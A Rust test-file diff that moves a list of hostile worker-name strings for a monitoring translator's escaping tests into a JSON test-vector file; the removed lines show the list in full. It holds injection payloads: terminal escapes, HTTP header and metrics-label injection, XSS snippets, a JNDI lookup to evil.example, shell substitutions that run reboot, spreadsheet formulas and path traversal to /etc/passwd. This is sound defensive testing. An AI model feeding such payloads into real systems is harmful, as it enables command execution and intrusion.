@@ -11,6 +11,7 @@ use super::*;
 use crate::plain;
 
 const RECORDED: &str = include_str!("../../../../test-vectors/monitoring/translator.json");
+const HOSTILE: &str = include_str!("../../../../test-vectors/monitoring/hostile-names.json");
 const RECORDED_METRICS: &str = include_str!("../../../../test-vectors/monitoring/translator.metrics");
 
 fn shares_above(accepted: u64) -> UpstreamShares {
@@ -340,72 +341,12 @@ fn no_number_of_machines_or_codes_makes_more_series() {
 
 /// Names that would do harm somewhere, alone and within others.
 fn hostile_names() -> Vec<String> {
-    const PARTS: &[&str] = &[
-        "\x1b[2J\x1b[1;1H",
-        "\x1b]0;title\x07",
-        "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
-        "\u{9b}31m",
-        "\r\n",
-        "\n",
-        "\r",
-        "HTTP/1.1 200 OK\r\n\r\n",
-        "\r\nSet-Cookie: a=b",
-        "\0",
-        "\x08\x08\x08",
-        "\x7f",
-        "\t",
-        "\"",
-        "'",
-        "\\",
-        "`",
-        "\"}",
-        "\"} 1\nevil 1\n",
-        "\\\"} 1",
-        "{a=\"b\"} 1",
-        "# TYPE evil counter",
-        "</script><script>alert(1)</script>",
-        "<!--",
-        "<img src=x onerror=alert(1)>",
-        "javascript:alert(1)",
-        "${jndi:ldap://evil.example/a}",
-        "{{7*7}}",
-        "%00",
-        "%0d%0a",
-        "%s%n",
-        "$(reboot)",
-        "`reboot`",
-        ";reboot",
-        "||",
-        "=1+1",
-        "@SUM(A1)",
-        "\u{202e}gnp.exe",
-        "\u{200f}",
-        "\u{2066}",
-        "\u{61c}",
-        "\u{2028}",
-        "\u{2029}",
-        "\u{85}",
-        "\u{feff}",
-        "\u{200b}",
-        "\u{e0041}",
-        "\u{fffe}",
-        "\u{10ffff}",
-        "a\u{301}\u{301}\u{301}\u{301}",
-        "\u{1f469}\u{200d}\u{1f4bb}",
-        "../../etc/passwd",
-        "__proto__",
-        "constructor",
-        "null",
-        "true",
-        "-1",
-        "1e999",
-        "",
-    ];
-    let mut names: Vec<String> = PARTS.iter().map(|part| (*part).to_owned()).collect();
-    for first in PARTS {
-        names.extend(PARTS.iter().step_by(3).map(|second| format!("alice{first}.rig{second}")));
+    let parts: Vec<String> = serde_json::from_str(HOSTILE).unwrap();
+    let mut names = parts.clone();
+    for first in &parts {
+        names.extend(parts.iter().step_by(3).map(|second| format!("alice{first}.rig{second}")));
     }
-    names.extend(PARTS.iter().map(|part| part.repeat(100)));
+    names.extend(parts.iter().map(|part| part.repeat(100)));
     names
 }
 
